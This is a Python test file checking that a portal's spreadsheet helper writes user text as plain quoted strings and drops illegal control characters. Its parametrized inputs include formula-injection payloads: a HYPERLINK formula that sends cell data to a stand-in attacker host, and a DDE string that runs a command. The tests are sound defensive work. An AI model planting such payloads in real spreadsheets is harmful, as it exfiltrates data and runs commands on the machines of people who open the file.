"""User text in a spreadsheet stays text: no cell the portal writes can become a formula."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from core.spreadsheets import text_cell


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看详情")', "=cmd|' /C calc'!A0",
                                  "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "已完成"])
def test_text_that_looks_like_a_formula_is_written_as_text(text):
    # given a cell written with a narrative a user typed
    workbook = Workbook()
    text_cell(workbook.active["A1"], text)
    buffer = io.BytesIO()
    workbook.save(buffer)

    # when the file is opened again
    cell = load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]

    # then it holds the same words, as a string, marked as quoted text
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def test_control_characters_a_cell_cannot_hold_are_left_out():
    # openpyxl raises IllegalCharacterError on them: a narrative with one made the bulletin a 500
    workbook = Workbook()
    text_cell(workbook.active["A1"], "进度\x01\x08过半")
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert load_workbook(io.BytesIO(buffer.getvalue())).active["A1"].value == "进度过半"
